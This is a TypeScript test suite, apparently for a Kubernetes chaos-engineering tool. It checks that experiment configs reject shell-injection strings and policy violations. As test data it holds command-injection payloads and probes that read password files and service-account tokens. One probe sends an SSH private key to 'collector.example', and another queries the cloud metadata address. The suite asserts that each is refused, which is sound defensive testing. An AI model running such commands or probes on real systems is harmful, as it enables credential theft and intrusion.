/**
 * The strict shape of a run: the YAML loader refuses what the worker would refuse, and the worker's own check
 * (config/validate-spec.ts) refuses a crafted workflow input that never went through the loader.
 * Every fault parameter that reaches a command is fed shell metacharacters and must come back as a field error.
 */
import { ConfigError } from '../../config/errors.js';
import { loadText } from '../../config/load.js';
import { DEFAULT_LIMITS, defaultPolicy, type Policy } from '../../config/policy.js';
import { validateExperimentSpec, validateProbe } from '../../config/validate-spec.js';
import type { ExperimentSpec } from '../../config/spec.js';
import { FAULTS, faultDescriptor } from '../../activities/faults/registry.js';
import { LOCAL_FAULTS } from '../../activities/faults/index.js';
import { K8S_FAULTS } from '../../activities/platform/kubernetes.js';
import { engineYaml } from '../helpers/engines.js';

const yaml = (fault: string, env: Record<string, string>, probes = '') => engineYaml('e', 'footanalytics', 'api-gateway', fault, env, probes);
const load = (text: string): ExperimentSpec => {
  const [d] = loadText(text, 'e.yaml');
  if (d.kind !== 'ChaosEngine') throw new Error(d.kind);
  return d.experiment;
};
const problemsOf = (text: string): string[] => {
  try {
    load(text);
  } catch (e) {
    if (!(e instanceof ConfigError)) throw e;
    return e.problems.map((p) => `${p.path}: ${p.message}`);
  }
  throw new Error('expected a ConfigError');
};
const allow: Policy = { ...defaultPolicy('/etc/tempest.yaml'), blastRadius: { allow: [{ namespace: 'footanalytics' }], protectedNamespaces: [] } };

describe('the registry is the one source', () => {
  test('every fault has a descriptor, and the platform driver maps match what the descriptors say', () => {
    for (const d of FAULTS) {
      expect(faultDescriptor(d.name)).toBe(d);
      expect([d.name, 'local', d.platforms.local === true]).toEqual([d.name, 'local', d.name in LOCAL_FAULTS]);
      expect([d.name, 'kubernetes', d.platforms.kubernetes === true]).toEqual([d.name, 'kubernetes', d.name in K8S_FAULTS]);
      expect(d.defaultDurationS).toBeGreaterThan(0);
    }
    expect(Object.keys(K8S_FAULTS).sort()).toEqual(
      FAULTS.filter((d) => d.platforms.kubernetes === true)
        .map((d) => d.name)
        .sort(),
    );
  });

  test('no prototype names are faults', () => {
    for (const n of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) expect(faultDescriptor(n)).toBeUndefined();
  });
});

describe('no shell text from YAML: every parameter is a strict shape', () => {
  const HOSTILE = ['x; touch /tmp/pwned', 'x && id', '$(id)', '`id`', 'x | sh', "x'", 'x"', 'x\nid', '../../etc/passwd', 'x #', '${IFS}', 'x>y'];
  const cases = FAULTS.flatMap((d) => d.params.map((p) => [d.name, p.env] as const));

  test.each(cases)('%s %s', (fault, env) => {
    for (const bad of HOSTILE) {
      const needs: Record<string, string> = fault === 'model-corruption' && env !== 'FILE_PATH' ? { FILE_PATH: '/models/m.pth' } : {};
      const problems = problemsOf(yaml(fault, { TOTAL_CHAOS_DURATION: '60', [env]: bad, ...needs }));
      // one field error, at that env entry (index 1: after TOTAL_CHAOS_DURATION), naming the variable
      expect([bad, problems]).toEqual([
        bad,
        [expect.stringMatching(new RegExp(`^spec\\.experiments\\[0\\]\\.spec\\.components\\.env\\[1\\]\\.value: ${env} must be `))],
      ]);
    }
  });

  test('the common env is strict too (TARGET_PODS, SEQUENCE, PODS_AFFECTED_PERC, durations)', () => {
    expect(problemsOf(yaml('pod-delete', { TARGET_PODS: 'a,b;c' }))).toEqual([
      'spec.experiments[0].spec.components.env[0].value: must be a comma list of pod names',
    ]);
    expect(problemsOf(yaml('pod-delete', { SEQUENCE: 'serial; id' }))[0]).toContain('SEQUENCE must be one of parallel, serial');
    expect(problemsOf(yaml('pod-delete', { PODS_AFFECTED_PERC: '0x10' }))[0]).toContain('PODS_AFFECTED_PERC must be a whole number from 0 to 100');
    expect(problemsOf(yaml('pod-delete', { TOTAL_CHAOS_DURATION: '$(id)' }))[0]).toContain('TOTAL_CHAOS_DURATION must be a duration in seconds');
  });
});

describe("bounds: only decimal numbers, within the operator's limits", () => {
  test.each<[string, Record<string, string>, string]>([
    ['pod-cpu-hog', { CPU_CORES: '100000' }, 'env[0].value: CPU_CORES must be <= 16 (limits.maxCpuCores)'],
    ['pod-cpu-hog', { CPU_LOAD: '0x10' }, 'env[0].value: CPU_LOAD must be a whole decimal number %'],
    ['pod-cpu-hog', { CPU_LOAD: '101' }, 'env[0].value: CPU_LOAD must be <= 100 %'],
    ['pod-network-latency', { NETWORK_LATENCY: '1e20' }, 'env[0].value: NETWORK_LATENCY must be a whole decimal number ms'],
    ['pod-network-latency', { NETWORK_LATENCY: '600000' }, 'env[0].value: NETWORK_LATENCY must be <= 60000 ms (limits.maxNetworkLatencyMs)'],
    [
      'pod-memory-hog',
      { MEMORY_CONSUMPTION: '4096', NUMBER_OF_WORKERS: '4' },
      'env[0].value: MEMORY_CONSUMPTION x NUMBER_OF_WORKERS is 16384 MB, more than limits.maxMemoryMb (8192 MB)',
    ],
    ['pod-network-loss', { NETWORK_PACKET_LOSS_PERCENTAGE: '1e1' }, 'env[0].value: NETWORK_PACKET_LOSS_PERCENTAGE must be a decimal number like 50 or 12.5'],
    ['pod-delete', { TOTAL_CHAOS_DURATION: '8640000000000' }, 'env[0].value: TOTAL_CHAOS_DURATION must be at most 6h (limits.maxChaosDuration)'],
    ['pod-delete', { RAMP_TIME: '100h' }, 'env[0].value: RAMP_TIME must be at most 1h (limits.maxRampTime)'],
  ])('%s %j', (fault, env, want) => {
    expect(problemsOf(yaml(fault, env))).toEqual([`spec.experiments[0].spec.components.${want}`]);
  });

  test('probe timeouts and attempts', () => {
    const probe = (rp: string) => `          - name: p
            type: httpProbe
            mode: Continuous
            runProperties: { ${rp} }
            httpProbe/inputs: { url: "http://x:1/", method: { get: { criteria: "==", responseCode: "200" } } }
`;
    expect(problemsOf(yaml('pod-delete', {}, probe('probeTimeout: "999999h"')))).toEqual([
      'spec.experiments[0].spec.probe[0].runProperties.probeTimeout: probeTimeout must be at most 5m (limits.maxProbeTimeout)',
    ]);
    expect(problemsOf(yaml('pod-delete', {}, probe('probeTimeout: 1, attempt: 1000')))).toEqual([
      'spec.experiments[0].spec.probe[0].runProperties.attempt: attempt must be <= 20 (limits.maxProbeAttempts)',
    ]);
    expect(problemsOf(yaml('pod-delete', {}, probe('probeTimeout: 1, interval: "0x10"')))[0]).toContain('runProperties.interval: must be a duration');
  });

  test('appns must be a namespace name; set-based applabel selectors are accepted, invalid ones refused', () => {
    const engine = (appns: string, applabel: string) =>
      yaml('pod-delete', {})
        .replace('appns: footanalytics', `appns: ${JSON.stringify(appns)}`)
        .replace('applabel: "app.kubernetes.io/name=api-gateway"', `applabel: ${JSON.stringify(applabel)}`);
    for (const bad of ['..', '../kube-system', 'a b', 'a;b', 'Foot'])
      expect(problemsOf(engine(bad, 'app=a'))[0]).toMatch(/^spec\.appinfo\.appns: must be a namespace name/);
    expect(load(engine('footanalytics', 'app in (a,b)')).target.labelSelector).toBe('app in (a,b)');
    expect(load(engine('footanalytics', 'tier notin (db), !canary')).target.labelSelector).toBe('tier notin (db), !canary');
    expect(problemsOf(engine('footanalytics', 'app=$(id)'))[0]).toMatch(
      /^spec\.appinfo\.applabel: is not a label selector: label selector: unexpected character '\$'/,
    );
  });
});

describe("the worker's own check of a crafted workflow input", () => {
  const base = () => load(yaml('container-kill', { TOTAL_CHAOS_DURATION: '60' }));
  const check = (spec: unknown, p: Policy | undefined = allow) => {
    const r = validateExperimentSpec(spec, DEFAULT_LIMITS, p);
    return r.ok ? [] : r.problems.map((x) => `${x.path}: ${x.message}`);
  };

  test('what the loader produced passes', () => {
    expect(check(base())).toEqual([]);
  });

  test('unknown keys, wrong types, unknown faults and undeclared parameters are refused', () => {
    expect(check({ ...base(), extra: 1 })[0]).toMatch(/Unrecognized key/);
    expect(check({ ...base(), name: 42 })[0]).toMatch(/^name: Expected string/);
    const f = base();
    (f.faults[0] as { name: string }).name = 'rm-rf';
    expect(check(f)[0]).toMatch(/^faults\[0\]\.name: Invalid enum value/);
    const g = base();
    (g.faults[0].params as Record<string, unknown>).cpuCores = 2;
    expect(check(g)).toEqual(['faults[0].params.cpuCores: container-kill has no parameter cpuCores']);
    const h = base();
    h.faults[0].durationMs = 8_640_000_000_000;
    expect(check(h)).toEqual(['faults[0].TOTAL_CHAOS_DURATION: TOTAL_CHAOS_DURATION must be at most 6h (limits.maxChaosDuration)']);
  });

  test('hypothesis and plan prose is printable: a terminal escape or a NUL is refused, line breaks and tabs are fine', () => {
    const ok = {
      ...base(),
      hypothesis: 'Line one\n\tline two',
      hypothesisPlan: { steadyState: [], experiment: ['kill one pod'], successCriteria: [], rollbackPlan: [] },
    };
    expect(check(ok)).toEqual([]);
    expect(check({ ...base(), hypothesis: 'fine\u001b[2J\u001b]0;owned\u0007' })).toEqual(['hypothesis: must be printable text (no control characters)']);
    expect(check({ ...ok, hypothesisPlan: { ...ok.hypothesisPlan, rollbackPlan: ['scale up\u0000'] } })).toEqual([
      'hypothesisPlan.rollbackPlan[0]: must be printable text (no control characters)',
    ]);
  });

  test('the policy allowlists: blast radius, images, sockets, local commands, probe namespaces and writes, body roots, hosts', () => {
    const s = base();
    s.target.namespace = 'kube-system';
    expect(check(s)[0]).toContain(
      'target.namespace: blast radius: target kube-system/app.kubernetes.io/name=api-gateway is not in blastRadius.allow of /etc/tempest.yaml (kube-system is a protected namespace',
    );
    const i = base();
    i.faults[0].params.images = { runtimeHelper: 'evil.example/x:1' };
    expect(check(i)).toEqual(['faults[0].params.images.runtimeHelper: LIB_IMAGE evil.example/x:1 is not in images.allow of /etc/tempest.yaml']);
    const k = base();
    k.faults[0].params.socketPath = '/var/run/evil.sock';
    expect(check(k)[0]).toContain('faults[0].params.socketPath: SOCKET_PATH /var/run/evil.sock is not one of the runtime sockets');
    const probes = (p: string) => load(yaml('pod-delete', {}, p)).faults[0].probes[0];
    const cmd = probes(`          - name: c
            type: cmdProbe
            mode: SOT
            cmdProbe/inputs: { command: "cat /etc/passwd", comparator: { type: string, criteria: contains, value: root } }
`);
    expect(validateProbe(cmd, DEFAULT_LIMITS, allow)).toMatchObject({
      ok: false,
      problems: [
        { message: expect.stringContaining('would run /bin/sh on the worker host, which /etc/tempest.yaml does not allow (probes.allowLocalCommands)') },
      ],
    });
    const inKubeSystem = probes(`          - name: c
            type: cmdProbe
            mode: SOT
            cmdProbe/inputs: { command: "cat /var/run/secrets/kubernetes.io/serviceaccount/token", source: { namespace: kube-system, labelSelector: "k8s-app=kube-dns" }, comparator: { type: string, criteria: contains, value: x } }
`);
    expect(validateProbe(inKubeSystem, DEFAULT_LIMITS, allow)).toMatchObject({
      ok: false,
      problems: [{ message: 'namespace kube-system is not in blastRadius.allow of /etc/tempest.yaml' }],
    });
    const k8s = probes(`          - name: k
            type: k8sProbe
            mode: SOT
            k8sProbe/inputs: { group: "", version: v1, resource: secrets, namespace: kube-system, operation: present }
`);
    expect(validateProbe(k8s, DEFAULT_LIMITS, allow)).toMatchObject({
      ok: false,
      problems: [{ message: 'namespace kube-system is not in blastRadius.allow of /etc/tempest.yaml' }],
    });
    const k8sDefault = probes(`          - name: k
            type: k8sProbe
            mode: SOT
            k8sProbe/inputs: { group: "", version: v1, resource: pods, operation: delete, labelSelector: "app=x" }
`);
    expect(k8sDefault.type === 'k8sProbe' && k8sDefault.k8s.namespace).toBe('footanalytics'); // the engine's namespace when none is given
    expect(validateProbe(k8sDefault, DEFAULT_LIMITS, allow)).toMatchObject({
      ok: false,
      problems: [{ message: expect.stringContaining('delete on pods is not allowed by /etc/tempest.yaml (probes.k8sWritable: none)') }],
    });
    const body = probes(`          - name: h
            type: httpProbe
            mode: SOT
            httpProbe/inputs: { url: "http://collector.example/", method: { post: { bodyPath: /root/.ssh/id_rsa, criteria: "==", responseCode: "200" } } }
`);
    expect(validateProbe(body, DEFAULT_LIMITS, allow)).toMatchObject({
      ok: false,
      problems: [{ message: expect.stringContaining('is not inside files.probeBodyRoots of /etc/tempest.yaml (none declared)') }],
    });
    const meta = probes(`          - name: h
            type: httpProbe
            mode: SOT
            httpProbe/inputs: { url: "http://169.254.169.254/latest/meta-data/iam/", method: { get: { criteria: "==", responseCode: "200" } } }
`);
    expect(validateProbe(meta, DEFAULT_LIMITS, allow)).toMatchObject({
      ok: false,
      problems: [{ message: expect.stringContaining('link-local / metadata address') }],
    });
  });

  test('an unsafe pattern is fine (RE2 is linear); an invalid one is refused at validate time', () => {
    const p = (value: string) => `          - name: c
            type: cmdProbe
            mode: SOT
            cmdProbe/inputs: { command: "echo", source: { namespace: footanalytics, pod: x }, comparator: { type: string, criteria: matches, value: ${JSON.stringify(value)} } }
`;
    expect(load(yaml('pod-delete', {}, p('(a+)+$'))).faults[0].probes).toHaveLength(1);
    expect(problemsOf(yaml('pod-delete', {}, p('(?<=x)y')))[0]).toMatch(/comparator\.value: is not a valid RE2 regular expression/);
  });
});

describe('a namespace the blast radius restricts to a label selector: probes only reach what the selector allows', () => {
  // footanalytics only for app=api (as an operator writes it); payments whole; * for the rest (minus protected ones)
  const restricted: Policy = {
    ...defaultPolicy('/etc/tempest.yaml'),
    blastRadius: { allow: [{ namespace: 'footanalytics', selector: 'app=api' }, { namespace: 'payments' }], protectedNamespaces: [] },
    probes: { ...defaultPolicy().probes, k8sWritable: ['configmaps', 'pods'], k8sClusterScoped: ['nodes'] },
  };
  const cmd = (source: Record<string, string>) => ({
    name: 'c',
    type: 'cmdProbe',
    mode: 'SOT',
    runProperties: { probeTimeoutMs: 1000, intervalMs: 100, attempts: 1, pollingIntervalMs: 1000, initialDelayMs: 0, stopOnFailure: false },
    cmd: { command: 'cat /var/run/secrets/token', source, comparator: { type: 'string', criteria: 'contains', value: 'x' } },
  });
  const k8s = (k: Record<string, string>) => ({
    name: 'k',
    type: 'k8sProbe',
    mode: 'SOT',
    runProperties: { probeTimeoutMs: 1000, intervalMs: 100, attempts: 1, pollingIntervalMs: 1000, initialDelayMs: 0, stopOnFailure: false },
    k8s: { group: '', version: 'v1', resource: 'configmaps', namespace: 'footanalytics', ...k },
  });
  const lines = (p: unknown, pol: Policy = restricted) => {
    const r = validateProbe(p, DEFAULT_LIMITS, pol);
    return r.ok ? [] : r.problems.map((x) => `${x.path}: ${x.message}${x.value === undefined ? '' : ` (got ${JSON.stringify(x.value)})`}`);
  };
  const ONLY = 'blastRadius.allow of /etc/tempest.yaml allows in footanalytics only app=api';

  test('cmdProbe source: a selector outside the allowed one is refused (one line naming the field and value); inside, or a pod by name (live labels, at exec), passes', () => {
    expect(lines(cmd({ namespace: 'footanalytics', labelSelector: 'app=db' }))).toEqual([
      `probe["cmdProbe/inputs"].source.labelSelector: selects pods outside the blast radius: ${ONLY} (got "app=db")`,
    ]);
    expect(lines(cmd({ namespace: 'footanalytics', labelSelector: 'tier=edge' }))).toHaveLength(1); // could select any app
    expect(lines(cmd({ namespace: 'footanalytics', labelSelector: 'app in (api,db)' }))).toHaveLength(1);
    expect(lines(cmd({ namespace: 'footanalytics', labelSelector: 'app=api' }))).toEqual([]);
    expect(lines(cmd({ namespace: 'footanalytics', labelSelector: 'app=api,tier=edge' }))).toEqual([]);
    expect(lines(cmd({ namespace: 'footanalytics', pod: 'db-0' }))).toEqual([]); // checked by the worker on the pod's live labels
    expect(lines(cmd({ namespace: 'payments', labelSelector: 'app=anything' }))).toEqual([]); // the whole namespace
  });

  test("cmdProbe source.container: never one of Tempest's own fault containers (tempest-*: NET_ADMIN, SYS_PTRACE)", () => {
    expect(lines(cmd({ namespace: 'payments', pod: 'web-0', container: 'tempest-netem-0123456789-0' }))).toEqual([
      `probe["cmdProbe/inputs"].source.container: is one of Tempest's own fault containers (tempest-*): a cmdProbe runs only in the pod's own containers (got "tempest-netem-0123456789-0")`,
    ]);
    expect(lines(cmd({ namespace: 'payments', pod: 'web-0', container: 'web' }))).toEqual([]);
  });

  test('k8sProbe: create refused; delete and reads need a contained labelSelector; a read by name passes (labels checked by the worker)', () => {
    expect(lines(k8s({ operation: 'create', data: 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: x, labels: { app: api } }\n' }))).toEqual([
      `probe["k8sProbe/inputs"].operation: create is refused in footanalytics: ${ONLY}, and a created object could carry any labels (got "create")`,
    ]);
    expect(lines(k8s({ operation: 'delete' }))).toEqual([
      `probe["k8sProbe/inputs"].labelSelector: is required for delete in footanalytics (${ONLY}): give a labelSelector contained in it`,
    ]);
    expect(lines(k8s({ operation: 'delete', labelSelector: 'app=db' }))).toEqual([
      `probe["k8sProbe/inputs"].labelSelector: selects objects outside the blast radius: ${ONLY} (got "app=db")`,
    ]);
    expect(lines(k8s({ operation: 'delete', fieldSelector: 'metadata.name=db-config' }))).toHaveLength(1); // delete by name alone: no
    expect(lines(k8s({ operation: 'delete', labelSelector: 'app=api,batch=old' }))).toEqual([]);
    expect(lines(k8s({ operation: 'present' }))).toEqual([
      `probe["k8sProbe/inputs"].labelSelector: is required for present in footanalytics (${ONLY}): give a labelSelector contained in it, or read one object by name (fieldSelector metadata.name=...)`,
    ]);
    expect(lines(k8s({ operation: 'absent', resource: 'secrets', labelSelector: 'app!=api' }))).toHaveLength(1);
    expect(lines(k8s({ operation: 'absent', fieldSelector: 'status.phase=Running', resource: 'pods' }))).toHaveLength(1); // not a name
    expect(lines(k8s({ operation: 'present', labelSelector: 'app=api' }))).toEqual([]);
    expect(lines(k8s({ operation: 'present', fieldSelector: 'metadata.name=api-config' }))).toEqual([]);
    expect(lines(k8s({ operation: 'present', resource: 'nodes' }))).toEqual([]); // cluster-scoped, listed: the worker decides after discovery
    expect(lines(k8s({ operation: 'create', namespace: 'payments', data: 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: x }\n' }))).toEqual([]);
  });

  test('the same refusals come from the loader, for an engine in footanalytics', () => {
    const engine = yaml(
      'pod-delete',
      {},
      `          - name: steal
            type: cmdProbe
            mode: SOT
            cmdProbe/inputs: { command: "cat /etc/secret/db-password", source: { namespace: footanalytics, labelSelector: "app=db" }, comparator: { type: string, criteria: contains, value: x } }
          - name: plant
            type: k8sProbe
            mode: SOT
            k8sProbe/inputs: { group: "", version: v1, resource: pods, operation: create, data: "apiVersion: v1\\nkind: Pod\\nmetadata: { name: x }\\n" }
`,
    );
    const withPolicy = {
      ...restricted,
      blastRadius: { ...restricted.blastRadius, allow: [{ namespace: 'footanalytics', selector: 'app.kubernetes.io/name=api-gateway' }] },
    };
    let problems: string[] = [];
    try {
      loadText(engine, 'e.yaml', { policy: withPolicy });
    } catch (e) {
      if (!(e instanceof ConfigError)) throw e;
      problems = e.problems.map((p) => `${p.path}: ${p.message}`);
    }
    expect(problems).toEqual([
      expect.stringMatching(
        /^spec\.experiments\[0\]\.spec\.probe\[0\]\["cmdProbe\/inputs"\]\.source\.labelSelector: selects pods outside the blast radius: .* allows in footanalytics only app\.kubernetes\.io\/name=api-gateway$/,
      ),
      expect.stringMatching(/^spec\.experiments\[0\]\.spec\.probe\[1\]\["k8sProbe\/inputs"\]\.operation: create is refused in footanalytics: /),
    ]);
  });
});

describe("the worker's own namespace: never reached through `*`, only by its exact name", () => {
  const star = (): Policy => ({
    ...defaultPolicy('/etc/tempest.yaml'),
    blastRadius: { allow: [{ namespace: '*' }], protectedNamespaces: [], workerNamespace: 'tempest-system' },
  });
  const exact = (): Policy => ({ ...star(), blastRadius: { ...star().blastRadius, allow: [{ namespace: '*' }, { namespace: 'tempest-system' }] } });
  const rp = { probeTimeoutMs: 1000, intervalMs: 100, attempts: 1, pollingIntervalMs: 1000, initialDelayMs: 0, stopOnFailure: false };
  const cmd = {
    name: 'c',
    type: 'cmdProbe',
    mode: 'SOT',
    runProperties: rp,
    cmd: {
      command: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
      source: { namespace: 'tempest-system', pod: 'tempest-worker-0' },
      comparator: { type: 'string', criteria: 'contains', value: 'x' },
    },
  };
  const k8s = {
    name: 'k',
    type: 'k8sProbe',
    mode: 'SOT',
    runProperties: rp,
    k8s: { group: '', version: 'v1', resource: 'pods', namespace: 'tempest-system', operation: 'present' },
  };
  const OWN =
    "namespace tempest-system is the worker's own namespace: nothing may target it unless blastRadius.allow of /etc/tempest.yaml lists it by its exact name";

  test('probes and a fault target are refused under *, allowed when listed exactly', () => {
    expect(validateProbe(cmd, DEFAULT_LIMITS, star())).toMatchObject({
      ok: false,
      problems: [{ path: 'probe["cmdProbe/inputs"].source.namespace', message: OWN, value: 'tempest-system' }],
    });
    expect(validateProbe(k8s, DEFAULT_LIMITS, star())).toMatchObject({ ok: false, problems: [{ path: 'probe["k8sProbe/inputs"].namespace', message: OWN }] });
    expect(validateProbe(cmd, DEFAULT_LIMITS, exact())).toMatchObject({ ok: true });
    expect(validateProbe(k8s, DEFAULT_LIMITS, exact())).toMatchObject({ ok: true });
    const spec = load(yaml('pod-delete', { TOTAL_CHAOS_DURATION: '60' }));
    const inOwn = { ...spec, target: { ...spec.target, namespace: 'tempest-system', labelSelector: 'app.kubernetes.io/name=tempest-worker' } };
    const r = validateExperimentSpec(inOwn, DEFAULT_LIMITS, star());
    expect(r.ok ? [] : r.problems.map((p) => p.message)).toEqual([
      expect.stringContaining("(tempest-system is the worker's own namespace: it must be listed by its exact name)"),
    ]);
    expect(validateExperimentSpec(inOwn, DEFAULT_LIMITS, exact()).ok).toBe(true);
    expect(validateExperimentSpec(spec, DEFAULT_LIMITS, star()).ok).toBe(true); // footanalytics: still in *
  });
});
